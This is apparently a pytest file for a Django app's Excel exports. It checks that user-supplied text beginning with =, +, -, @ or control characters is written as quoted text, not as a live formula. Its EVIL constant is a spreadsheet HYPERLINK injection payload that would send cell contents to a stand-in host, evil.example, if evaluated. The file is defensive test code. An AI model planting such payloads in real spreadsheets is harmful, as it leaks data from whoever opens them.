"""Excel exports never carry a live formula from user input (CSV/formula
injection): a public application named ``=HYPERLINK(...)`` is exported as
text, in the reports' own workbooks and in django-import-export files."""

import io
import zipfile

from openpyxl import load_workbook

from apps.bakesbangpol.pembinaan.admin import ParpolResource
from apps.bakesbangpol.pembinaan.models import Parpol
from apps.bakesbangpol.umum.admin import KlasifikasiResource
from apps.bakesbangpol.umum.models import KlasifikasiArsip
from apps.docflow.excel import neutralise_formula, xlsx_response
from tests.conftest import advance_skt, make_skt

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        return "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))


def test_register_export_writes_a_formula_like_name_as_text(login_as):
    advance_skt(make_skt(nama_ormas=EVIL), "SKT Terbit")
    response = login_as("kabid_kbk").get("/app/laporan/register/skt/?format=xlsx")
    assert response.status_code == 200
    assert "<f>" not in _sheet_xml(response.content)  # no formula element anywhere
    ws = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert cells, "the name is exported unchanged, as text"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_every_trigger_character_is_neutralised():
    rows = [[v] for v in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "biasa", -5, 3)]
    response = xlsx_response("uji", "Uji", ["nilai"], rows)
    assert "<f>" not in _sheet_xml(response.content)
    ws = load_workbook(io.BytesIO(response.content)).active
    values = [r[0] for r in ws.iter_rows(min_row=4, values_only=True)]
    # (XML turns the carriage return into a line feed on reading)
    assert values == ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\n=1", "biasa", -5, 3]
    assert [neutralise_formula(v) for v in ("=1", "-2", "@x", "ok", 7)] == ["'=1", "'-2", "'@x", "ok", 7]


def test_import_export_resources_prefix_formula_like_text():
    Parpol.objects.create(nama=EVIL, singkatan="JAHAT", tahun_pemilu=2024, jumlah_suara=1, jumlah_kursi=0)
    dataset = ParpolResource().export(queryset=Parpol.objects.filter(singkatan="JAHAT"))
    assert dataset.dict[0]["nama"] == "'" + EVIL
    KlasifikasiArsip.objects.create(kode="ZZ.9", nama="+62 hubungi kami", retensi_aktif=1, retensi_inaktif=1)
    dataset = KlasifikasiResource().export(queryset=KlasifikasiArsip.objects.filter(kode="ZZ.9"))
    assert dataset.dict[0]["nama"] == "'+62 hubungi kami"
